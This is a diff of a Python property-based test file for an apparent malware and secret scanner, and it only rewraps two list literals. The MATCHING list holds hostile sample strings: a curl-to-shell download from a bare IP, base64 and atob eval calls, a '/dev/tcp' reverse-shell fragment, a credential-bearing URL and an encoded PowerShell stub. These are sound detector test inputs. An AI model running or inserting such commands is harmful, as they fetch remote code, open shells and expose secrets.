@@ -16,7 +16,8 @@ from tests.data.test_screening import PLANTED
 from tests.reference import signals as slow
 
 PIECES = ["    ", " " * 24 + "x", "\t" * 6, "\n", "# a", "#!", "-- b", "--b", "* c", "*/", "def f", "async  def _g",
-    "class A", "x1_", "_", "9a", "é", "“name”", "a" * 65, "\v", "\f", "\r", "\x1c", " ", ";", "%", "//", "\U0001f600"]  # fmt: skip
+    "class A", "x1_", "_", "9a", "é", "“name”", "a" * 65,
+    "\v", "\f", "\r", "\x1c", " ", ";", "%", "//", "\U0001f600"]  # fmt: skip
 
 
 @given(st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=5)), max_size=40).map("".join))
@@ -43,7 +44,8 @@ ALL = [
     malware._OBFUSCATED_NAME,
 ]
 MATCHING = [*PLANTED, "os.system('curl http://1.2.3.4/x | sh')", "exec(base64.b64decode('eA=='))", 
-    "sh -i >& /dev/tcp/1", "https://jane:hunter22@db.acme.net/x", "powershell -enc " + "QQ" * 30, "_0x12ab", "eval(atob('x'))"]  # fmt: skip
+    "sh -i >& /dev/tcp/1", "https://jane:hunter22@db.acme.net/x", "powershell -enc " + "QQ" * 30,
+    "_0x12ab", "eval(atob('x'))"]  # fmt: skip
 
 
 @given(st.lists(st.one_of(st.sampled_from(MATCHING), st.text(max_size=8)), max_size=6).map("\n".join))
